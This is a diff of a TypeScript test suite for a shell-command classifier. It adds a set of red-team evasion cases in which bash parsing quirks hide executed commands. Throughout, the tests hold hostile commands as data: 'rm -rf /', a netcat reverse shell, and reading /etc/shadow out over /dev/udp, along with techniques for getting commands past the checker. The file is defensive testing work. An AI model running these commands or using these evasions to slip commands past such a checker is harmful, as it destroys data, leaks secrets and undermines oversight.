@@ -31,8 +31,16 @@ const simple: readonly Case[] = [
   ['line continuation', 'ls \\\n  -l', ['exec ls -l']],
   ['a trailing comment is not an argument', 'true # rm -rf /', ['exec true']],
   ['a # inside a word is text', 'echo a#b', ['exec echo a#b']],
-  ['tilde is kept as written', '~/bin/tool x', ['exec ~/bin/tool x']],
-  ['a path to the program is kept', '/usr/bin/rm -f x', ['exec /usr/bin/rm -f x']],
+  [
+    'tilde is kept as written (and the name reported too)',
+    '~/bin/tool x',
+    ['exec ~/bin/tool x', 'exec tool x'],
+  ],
+  [
+    'a path to the program is kept, and the program is reported by name',
+    '/usr/bin/rm -f x',
+    ['exec /usr/bin/rm -f x', 'exec rm -f x'],
+  ],
   [
     'arguments with expansions keep their source text',
     'rm "$HOME/x" ${DIR}/y',
@@ -57,10 +65,15 @@ const substitutions: readonly Case[] = [
   ['an assignment alone still runs its substitution', 'X=$(rm -rf /)', ['exec rm -rf /']],
   ['prefix assignment with substitution', 'X=$(id) ls', ['exec id', 'exec ls']],
   ['inside a parameter expansion default', 'echo ${x:-$(id)}', ['exec id', 'exec echo ${x:-$(id)}']],
-  ['inside arithmetic', 'echo $(( $(id -u) + 1 ))', ['exec id -u', 'exec echo $(( $(id -u) + 1 ))']],
+  // Arithmetic evaluates the substituted output again (bash before 5.2 expands `a[$(…)]` in it).
+  [
+    'inside arithmetic',
+    'echo $(( $(id -u) + 1 ))',
+    ['exec id -u', 'exec echo $(( $(id -u) + 1 ))', 'unknown'],
+  ],
   ['inside an array assignment', 'arr=(a $(whoami))', ['exec whoami']],
   ['inside [[ ]]', '[[ -f $(whoami) ]] && ls', ['exec whoami', 'exec ls']],
-  ['inside an array subscript', 'echo ${a[$(who)]}', ['exec who', 'exec echo ${a[$(who)]}']],
+  ['inside an array subscript', 'echo ${a[$(who)]}', ['exec who', 'exec echo ${a[$(who)]}', 'unknown']],
   ['nested substitutions', 'echo $(echo $(id))', ['exec id', 'exec echo $(id)', 'exec echo $(echo $(id))']],
   ['in a redirect target', 'ls > "$(mktemp)"', ['exec mktemp', 'unknown', 'exec ls']],
   ['in a for list', 'for f in $(ls); do rm "$f"; done', ['exec ls', 'exec rm "$f"']],
@@ -156,7 +169,7 @@ const wrappers: readonly Case[] = [
     ['exec nice -n 10 tar czf /tmp/a.tgz /etc', 'exec tar czf /tmp/a.tgz /etc'],
   ],
   ['nice old syntax', 'nice -5 id', ['exec nice -5 id', 'exec id']],
-  ['nohup in the background', 'nohup ./run.sh &', ['exec nohup ./run.sh', 'exec ./run.sh']],
+  ['nohup in the background', 'nohup ./run.sh &', ['exec nohup ./run.sh', 'exec ./run.sh', 'exec run.sh']],
   [
     'timeout',
     'timeout --signal=KILL 10s curl http://x',
@@ -166,7 +179,7 @@ const wrappers: readonly Case[] = [
   [
     'exec -a with sh -c',
     `exec -a foo /bin/sh -c 'id'`,
-    ['exec exec -a foo /bin/sh -c id', 'exec /bin/sh -c id', 'exec id'],
+    ['exec exec -a foo /bin/sh -c id', 'exec /bin/sh -c id', 'exec sh -c id', 'exec id'],
   ],
   ['command runs its argument', 'command rm x', ['exec command rm x', 'exec rm x']],
   ['command -v only looks it up', 'command -v rm', ['exec command -v rm']],
@@ -216,7 +229,11 @@ const wrappers: readonly Case[] = [
   ],
   ['sh -c of an expansion is unknown', 'bash -c "$CMD"', ['exec bash -c "$CMD"', 'unknown']],
   ['a script file runs only itself', 'bash script.sh', ['exec bash script.sh']],
-  ['a shell by path with -lc', `/bin/bash -lc 'ls'`, ['exec /bin/bash -lc ls', 'exec ls']],
+  [
+    'a shell by path with -lc',
+    `/bin/bash -lc 'ls'`,
+    ['exec /bin/bash -lc ls', 'exec bash -lc ls', 'exec ls'],
+  ],
   ['a shell reading the channel is unknown', 'bash', ['exec bash', 'unknown']],
   ['zsh -c', `zsh -o errexit -c 'id'`, ['exec zsh -o errexit -c id', 'exec id']],
   ['fish -c is unknown', `fish -c 'rm x'`, ['exec fish -c rm x', 'unknown']],
@@ -237,7 +254,7 @@ const wrappers: readonly Case[] = [
   [
     'chroot with a command',
     'chroot /mnt /bin/sh -c id',
-    ['exec chroot /mnt /bin/sh -c id', 'exec /bin/sh -c id', 'exec id'],
+    ['exec chroot /mnt /bin/sh -c id', 'exec /bin/sh -c id', 'exec sh -c id', 'exec id'],
   ],
   ['flock -c', `flock /tmp/l -c 'rm x'`, ['exec flock /tmp/l -c rm x', 'exec rm x']],
   ['busybox sh -c', `busybox sh -c 'rm x'`, ['exec busybox sh -c rm x', 'exec sh -c rm x', 'exec rm x']],
@@ -324,10 +341,11 @@ const redirects: readonly Case[] = [
   ],
   ['<> is not parsed by the grammar: unknown', 'ls <> /tmp/x', ['unknown', 'exec ls']],
   ['reading /dev/tcp opens a connection: unknown', 'cat < /dev/tcp/10.0.0.1/80', ['unknown', 'exec cat']],
+  // bash opens a connection, not a file: exfiltration is not a write a rule on paths governs.
   [
-    'writing /dev/tcp is a write',
+    'writing /dev/tcp opens a connection: unknown',
     'echo x > /dev/tcp/10.0.0.1/80',
-    ['write /dev/tcp/10.0.0.1/80', 'exec echo x'],
+    ['unknown', 'exec echo x'],
   ],
   [
     'sudo tee writes',
@@ -408,7 +426,7 @@ const programs: readonly Case[] = [
   [
     'nc -e runs a program',
     'nc -e /bin/sh 10.0.0.1 80',
-    ['exec nc -e /bin/sh 10.0.0.1 80', 'exec /bin/sh', 'unknown'],
+    ['exec nc -e /bin/sh 10.0.0.1 80', 'exec /bin/sh', 'exec sh', 'unknown'],
   ],
   [
     'socat EXEC is unknown',
@@ -439,8 +457,232 @@ const programs: readonly Case[] = [
   ],
 ];
 
+/**
+ * Red-team findings: each line ran something in bash 5.2 (or older) that the classifier did
+ * not report, or is a benign look-alike that must stay precise.
+ */
+const evasions: readonly Case[] = [
+  ['quoted arithmetic payload in [[ -eq ]]', "[[ 'a[$(rm -rf /)]' -eq 0 ]]; ls", ['exec ls', 'unknown']],
+  [
+    'payload in a variable evaluated by $(( ))',
+    "x='a[$(rm -rf /)]'; ls $((x))",
+    ['exec ls $((x))', 'unknown'],
+  ],
+  [
+    'stdin read into a variable evaluated by $(( ))',
+    'read x; ls $((x))',
+    ['exec read x', 'exec ls $((x))', 'unknown'],
+  ],
+  [
+    'stdin read into a variable used indirectly',
+    'read x; ls ${!x}',
+    ['exec read x', 'exec ls ${!x}', 'unknown'],
+  ],
+  ['prompt expansion of a quoted payload', "x='$(rm -rf /)'; ls ${x@P}", ['exec ls ${x@P}', 'unknown']],
+  [
+    'declare -i evaluates later assignments',
+    "declare -i n; n='a[$(rm -rf /)]'",
+    ['exec declare -i n', 'unknown'],
+  ],
+  ['let evaluates its arguments', "let 'a[$(rm -rf /)]'", ['exec let a[$(rm -rf /)]', 'unknown']],
+  ['test -v evaluates a subscript', "test -v 'a[$(rm -rf /)]'", ['exec test -v a[$(rm -rf /)]', 'unknown']],
+  ['[ -v ] evaluates a subscript', "[ -v 'a[$(rm -rf /)]' ]", ['exec [ -v a[$(rm -rf /)] ]', 'unknown']],
+  [
+    'declare of a subscripted name',
+    "declare 'a[$(rm -rf /)]=1'",
+    ['exec declare a[$(rm -rf /)]=1', 'unknown'],
+  ],
+  [
+    'positional parameters in arithmetic',
+    "set -- 'a[$(rm -rf /)]'; ls $(($1))",
+    ['exec set -- a[$(rm -rf /)]', 'exec ls $(($1))', 'unknown'],
+  ],
+  [
+    'function arguments in arithmetic',
+    "f(){ ls $(($1)); }; f 'a[$(rm -rf /)]'",
+    ['exec ls $(($1))', 'exec f a[$(rm -rf /)]', 'unknown'],
+  ],
+  [
+    'for list into arithmetic',
+    "for i in 'a[$(rm -rf /)]'; do ls $((i)); done",
+    ['exec ls $((i))', 'unknown'],
+  ],
+  [
+    'old $[ ] arithmetic with a quoted payload',
+    "echo $[ 'a[$(rm -rf /)]' ]",
+    ['unknown', "exec echo $[ 'a[$(rm -rf /)]' ]"],
+  ],
+  [
+    'single quotes in ${…} inside double quotes do not quote',
+    'echo "${x:-\'$(rm -rf /)\'}"',
+    ['unknown', 'exec echo "${x:-\'$(rm -rf /)\'}"'],
+  ],
+  [
+    'the same with :+ and :=',
+    'echo "${x:=\'$(rm -rf /)\'}"',
+    ['unknown', 'exec echo "${x:=\'$(rm -rf /)\'}"'],
+  ],
+  [
+    'backquotes the grammar leaves inside ${…}',
+    'echo "${x:-`rm -rf /`}"',
+    ['unknown', 'exec echo "${x:-`rm -rf /`}"'],
+  ],
+  [
+    'quoted subscript of an indexed array',
+    "echo ${a['$(rm -rf /)']}",
+    ['unknown', "exec echo ${a['$(rm -rf /)']}"],
+  ],
+  ['quoted payload that is only printed stays precise', "echo '$(rm -rf /)'", ['exec echo $(rm -rf /)']],
+  ['grep for a substitution stays precise', "grep -F '$(' deploy.sh", ['exec grep -F $( deploy.sh']],
+  ['plain arithmetic stays precise', 'for ((i=0;i<3;i++)); do echo $((i*2)); done', ['exec echo $((i*2))']],
+  ['a default in double quotes stays precise', 'echo "${name:-\'anon\'}"', ['exec echo "${name:-\'anon\'}"']],
+  [
+    'reading lines stays precise',
+    'while read -r line; do echo "$line"; done < /etc/hosts',
+    ['exec read -r line', 'exec echo "$line"'],
+  ],
+  [
+    '[ ] compares integers without evaluating',
+    '[ "$(id -u)" -eq 0 ] && echo root',
+    ['exec id -u', 'exec [ "$(id -u)" -eq 0 ]', 'exec echo root'],
+  ],
+  ['absolute path to rm', '/bin/rm -rf /', ['exec /bin/rm -rf /', 'exec rm -rf /']],
+  ['relative path to rm', '../../bin/rm -rf /', ['exec ../../bin/rm -rf /', 'exec rm -rf /']],
+  [
+    'the dynamic loader runs a program',
+    '/lib64/ld-linux-x86-64.so.2 /bin/rm -rf /',
+    [
+      'exec /lib64/ld-linux-x86-64.so.2 /bin/rm -rf /',
+      'exec ld-linux-x86-64.so.2 /bin/rm -rf /',
+      'exec /bin/rm -rf /',
+      'exec rm -rf /',
+    ],
+  ],
+  [
+    'sudo with a variable before the command',
+    'sudo -E PATH=/tmp rm -rf /',
+    ['exec sudo -E PATH=/tmp rm -rf /', 'unknown', 'exec rm -rf /'],
+  ],
+  ['sudo with a harmless variable', 'sudo LANG=C rm -rf /', ['exec sudo LANG=C rm -rf /', 'exec rm -rf /']],
+  [
+    'sudo with a pager variable',
+    "sudo PAGER='rm -rf /' git log",
+    ['exec sudo PAGER=rm -rf / git log', 'exec rm -rf /', 'exec git log'],
+  ],
+  [
+    'python -c is unknown',
+    'python3 -c \'import os; os.system("rm -rf /")\'',
+    ['exec python3 -c import os; os.system("rm -rf /")', 'unknown'],
+  ],
+  ['perl -e is unknown', 'perl -e \'system("rm -rf /")\'', ['exec perl -e system("rm -rf /")', 'unknown']],
+  [
+    'perl -M with code is unknown',
+    "perl '-MPOSIX;system(q(id))' x.pl",
+    ['exec perl -MPOSIX;system(q(id)) x.pl', 'unknown'],
+  ],
+  [
+    'ruby, node, php, lua inline code',
+    'ruby -e 1; node -e 1; php -r 1; lua5.4 -e 1',
+    ['exec ruby -e 1', 'unknown', 'exec node -e 1', 'exec php -r 1', 'exec lua5.4 -e 1'],
+  ],
+  [
+    'an interpreter reading the channel is unknown',
+    'curl -s http://x | python3',
+    ['exec curl -s http://x', 'exec python3', 'unknown'],
+  ],
+  [
+    'node --import of a data: URL is unknown',
+    "node --import 'data:text/javascript,1' app.js",
+    ['exec node --import data:text/javascript,1 app.js', 'unknown'],
+  ],
+  [
+    'an interpreter running a script file is its argv',
+    'python3 -m http.server 8000; perl script.pl; node app.js',
+    ['exec python3 -m http.server 8000', 'exec perl script.pl', 'exec node app.js'],
+  ],
+  ['unbuffer runs its command', 'unbuffer rm -rf /', ['exec unbuffer rm -rf /', 'exec rm -rf /']],
+  [
+    'fakeroot, proxychains, torsocks',
+    'fakeroot rm -rf /; proxychains4 curl http://x; torsocks curl http://y',
+    [
+      'exec fakeroot rm -rf /',
+      'exec rm -rf /',
+      'exec proxychains4 curl http://x',
+      'exec curl http://x',
+      'exec torsocks curl http://y',
+      'exec curl http://y',
+    ],
+  ],
+  ['ip netns exec', 'ip netns exec ns1 rm -rf /', ['exec ip netns exec ns1 rm -rf /', 'exec rm -rf /']],
+  [
+    'logsave writes and runs',
+    'logsave /tmp/l rm -rf /',
+    ['exec logsave /tmp/l rm -rf /', 'write /tmp/l', 'exec rm -rf /'],
+  ],
+  ['newgrp starts a shell on the channel', 'newgrp wheel', ['exec newgrp wheel', 'unknown']],
+  [
+    'ssh-agent runs its command',
+    "ssh-agent bash -c 'rm -rf /'",
+    ['exec ssh-agent bash -c rm -rf /', 'exec bash -c rm -rf /', 'exec rm -rf /'],
+  ],
+  [
+    'split --filter runs a command line',
+    "split --filter='rm -rf /' f",
+    ['exec split --filter=rm -rf / f', 'exec rm -rf /'],
+  ],
+  [
+    'sort --compress-program runs a program',
+    'sort --compress-program=rm f',
+    ['exec sort --compress-program=rm f', 'exec rm'],
+  ],
+  [
+    'zip -TT runs a command line',
+    "zip x.zip f -T -TT 'rm -rf / #'",
+    ['exec zip x.zip f -T -TT rm -rf / #', 'exec rm -rf /'],
+  ],
+  ['vim -c is unknown', "vim -c ':!rm -rf /' f", ['exec vim -c :!rm -rf / f', 'unknown']],
+  ['gdb -ex is unknown', "gdb -batch -ex '!rm -rf /'", ['exec gdb -batch -ex !rm -rf /', 'unknown']],
+  [
+    'sqlite3 .shell is unknown',
+    "sqlite3 x.db '.shell rm -rf /'",
+    ['exec sqlite3 x.db .shell rm -rf /', 'unknown'],
+  ],
+  ['psql \\! is unknown', "psql -c '\\! rm -rf /'", ['exec psql -c \\! rm -rf /', 'unknown']],
+  [
+    'git --config-env is unknown',
+    "FOO='rm -rf /' git --config-env=core.pager=FOO log",
+    ['exec git --config-env=core.pager=FOO log', 'unknown'],
+  ],
+  ['git --exec-path is unknown', 'git --exec-path=/tmp log', ['exec git --exec-path=/tmp log', 'unknown']],
+  [
+    'apt-get Pre-Invoke is unknown',
+    'apt-get -o APT::Update::Pre-Invoke::=rm update',
+    ['exec apt-get -o APT::Update::Pre-Invoke::=rm update', 'unknown'],
+  ],
+  [
+    'writing /dev/udp opens a connection',
+    'cat /etc/shadow >/dev/udp/10.0.0.1/53',
+    ['unknown', 'exec cat /etc/shadow'],
+  ],
+  [
+    'a NUL byte hides the rest from bash',
+    'ls\u0000; rm -rf /',
+    ['unknown', 'exec ls\u0000', 'exec rm -rf /'],
+  ],
+  ['CR before a newline still separates commands', 'ls\r\nrm -rf /', ['exec ls', 'exec rm -rf /']],
+  ['vertical tab is not a blank to bash', 'ls\u000brm -rf /', ['unknown', 'exec ls rm -rf /']],
+  ['unicode spaces are part of the word', 'ls\u00a0-la', ['exec ls\u00a0-la']],
+  ['a list after a heredoc operator', 'cat <<EOF; rm -rf /\nfoo\nEOF', ['unknown', 'exec cat']],
+  [
+    '<<- strips tabs before the delimiter',
+    'cat <<-EOF\n\tfoo\n\tEOF\nrm -rf /',
+    ['exec cat', 'exec rm -rf /'],
+  ],
+];
+
 describe('classifyShellCommand', () => {
   const groups = {
+    evasions,
     programs,
     simple,
     substitutions,
